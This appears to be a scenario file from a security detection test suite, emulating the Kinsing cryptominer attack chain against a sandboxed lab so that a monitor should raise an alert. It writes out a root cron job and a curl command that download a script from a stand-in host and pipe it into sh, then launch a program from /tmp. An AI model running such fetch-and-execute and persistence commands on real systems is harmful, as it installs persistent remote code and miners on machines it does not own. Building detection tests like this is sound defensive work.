# id: A05
# title: Kinsing's chain: package manager, cron, download into a shell, program from /tmp, miner
# expect: alert
# severity: high
# kinds: process, file, network
# attck: T1105
# image: tools
# launch: app
# peers: http:8000, stratum:3333
# companion: /tmp/kinsing
# timeout: 50

# The package manager only tells its version: nothing is installed from anywhere.
sh -c 'apt-get --version || dpkg --version' >/dev/null 2>&1
cron
echo '* * * * * root wget -q -O - http://http:8000/d.sh | sh' >/etc/cron.d/root
curl -s -m 3 http://http:8000/d.sh | sh
/tmp/kinsing &
timeout 20 tail -f /dev/null
wait
